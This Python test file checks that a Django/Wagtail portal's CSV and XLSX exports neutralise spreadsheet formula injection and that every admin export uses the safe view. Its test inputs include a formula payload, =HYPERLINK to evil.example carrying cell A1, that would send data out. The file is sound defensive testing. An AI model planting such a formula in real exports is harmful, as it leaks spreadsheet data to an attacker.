"""spreadsheets: no CSV or XLSX cell the portal writes can be a formula; numbers stay numbers."""

import csv
import io

from django.test import SimpleTestCase

from wagtail.snippets.models import get_snippet_models

from openpyxl import Workbook, load_workbook

from spreadsheets import CsvWriter, SpreadsheetIndexView, xlsx_row

# What an attacker types into the search box or an editor pastes: each is a formula in Excel, WPS or LibreOffice.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")
# The ones that survive a form field or the search log, which strip leading whitespace.
TYPED_FORMULAS = FORMULAS[:4]


def response_bytes(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(response_bytes(response).decode("utf-8-sig"))))


def xlsx_cells(content, sheet=None):
    """Every cell of a sheet as (value, data_type, quote_prefix)."""
    workbook = load_workbook(io.BytesIO(content))
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in worksheet.iter_rows()]


class CsvWriterTests(SimpleTestCase):
    def write(self, row):
        buffer = io.StringIO()
        CsvWriter(buffer).writerow(row)
        return buffer.getvalue()

    def test_formula_cells_get_a_leading_quote(self):
        for formula in FORMULAS:
            with self.subTest(formula=formula):
                [row] = csv.reader(io.StringIO(self.write(["低保", formula])))
                self.assertEqual(row, ["低保", "'" + formula])

    def test_text_is_quoted_so_a_separator_cannot_start_a_formula_cell(self):
        self.assertEqual(self.write(["a;=1+1", "一门"]), '"a;=1+1","一门"\r\n')

    def test_numbers_stay_numbers(self):
        self.assertEqual(self.write([-2, 3, 1.5, None, True, "0734-4362011"]), '-2,3,1.5,"","True","0734-4362011"\r\n')


class XlsxRowTests(SimpleTestCase):
    def test_formula_cells_are_strings_with_the_quote_prefix(self):
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("表")
        # XML reads a stored carriage return back as a line feed, so the CR case is left to the CSV test.
        formulas = [f for f in FORMULAS if not f.startswith("\r")]
        sheet.append(xlsx_row(sheet, [*formulas, -2, 3.5, "普通文字", "含\x0b控制字符"]))
        buffer = io.BytesIO()
        workbook.save(buffer)
        [row] = xlsx_cells(buffer.getvalue())
        for (value, data_type, quote_prefix), formula in zip(row, formulas, strict=False):
            with self.subTest(formula=formula):
                self.assertEqual((value, data_type, quote_prefix), (formula, "s", True))
        self.assertEqual(
            row[len(formulas) :],
            [(-2, "n", False), (3.5, "n", False), ("普通文字", "s", False), ("含控制字符", "s", False)],
        )


class SnippetExportsTests(SimpleTestCase):
    def test_every_snippet_admin_with_an_export_goes_through_spreadsheets(self):
        for model in get_snippet_models():
            viewset = model.snippet_viewset
            if isinstance(viewset.list_export, list | tuple) and viewset.list_export:  # else Wagtail's UNDEFINED
                with self.subTest(model=model.__name__):
                    self.assertTrue(issubclass(viewset.index_view_class, SpreadsheetIndexView))

    def test_every_admin_list_with_an_export_goes_through_spreadsheets(self):
        """Not only snippets: the case queues, the message log and any other ModelViewSet with an export."""
        from wagtail.admin.viewsets import viewsets
        from wagtail.admin.viewsets.model import ModelViewSet

        viewsets.populate()
        checked = []
        for viewset in viewsets.viewsets:
            if not isinstance(viewset, ModelViewSet):
                continue
            if isinstance(viewset.list_export, list | tuple) and viewset.list_export:
                checked.append(viewset.name)
                with self.subTest(viewset=viewset.name):
                    self.assertTrue(issubclass(viewset.index_view_class, SpreadsheetIndexView))
        self.assertTrue({"complaints", "questions", "messages"} <= set(checked), checked)
